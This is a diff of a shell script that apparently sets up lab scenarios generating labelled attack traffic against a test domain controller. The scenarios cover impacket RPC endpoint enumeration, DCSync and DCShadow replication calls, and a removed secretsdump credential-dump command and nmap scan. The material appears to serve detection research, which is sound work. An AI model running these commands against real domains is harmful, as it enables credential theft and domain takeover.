@@ -2,8 +2,6 @@
 
 AS_ADMIN="$DOMAIN/Administrator:$ADMIN_PW"
 AS_USER="$DOMAIN/$ALICE:$ALICE_PW"
-NMAP=(nmap -n -Pn --max-retries 1 --host-timeout 60s)
-NMAP_TOOL='nmap 7.93'
 ON_DC=(malicious=yes attacker=$EVIL victim=$DC)
 ON_SRV=(malicious=yes attacker=$EVIL victim=$SRV)
 
@@ -25,7 +23,6 @@ simple() {
 scenario_recon_rpcdump() { simple recon_rpcdump "impacket's rpcdump lists every endpoint of the domain controller over TCP 135." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" "$AS_USER@$DC"; }
 scenario_recon_rpcdump_pipe() { simple recon_rpcdump_pipe "The same over the pipe epmapper." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" -port 445 "$AS_USER@$DC"; }
 scenario_recon_rpcmap() { simple recon_rpcmap "impacket's rpcmap asks port 135 for the interfaces it has (management interface, opnum 0)." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcmap.py" "ncacn_ip_tcp:$DC[135]"; }
-scenario_recon_nmap_593() { simple recon_nmap_593 "nmap's version detection on 135, 593 and the dynamic port. What it sends is no RPC listing: no label." "$NMAP_TOOL" recon ON_SRV -- on_evil "${NMAP[@]}" -sV --version-light -p 135,593,$DYNAMIC_PORT "$SRV"; }
 
 scenario_recon_coercer_scan() {
   callback_with impacket
@@ -61,7 +58,6 @@ scenario_recon_alive_one() { simple recon_alive_one "ServerAlive2 at one host, t
 scenario_dcsync_object() { simple dcsync_object "DRSGetNCChanges for one account from a host that is no domain controller, as an administrator." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" Administrator object; }
 scenario_dcsync_denied() { simple dcsync_denied "The same as an ordinary user: refused." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" object; }
 scenario_dcsync_pipe() { simple dcsync_pipe "The same over the pipe lsass, where a domain controller offers it too." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_np:$DC[\\pipe\\lsass]" Administrator object; }
-scenario_dcsync_secretsdump() { simple dcsync_secretsdump "impacket's secretsdump for one account. Samba refuses its DRSCrackNames, so the replication call is never made: no label." "$IMPACKET_CALL" rpc-attack ON_DC -- on_evil "$IMPACKET/secretsdump.py" -just-dc-user "$ALICE" -just-dc-ntlm "$AS_ADMIN@$DC"; }
 scenario_dcshadow_admin() { simple dcshadow_admin "DRSAddEntry from a host that is no domain controller, as an administrator, with nothing to add." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" Administrator add; }
 scenario_dcshadow_user() { simple dcshadow_user "DRSAddEntry as an ordinary user." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" add; }
 
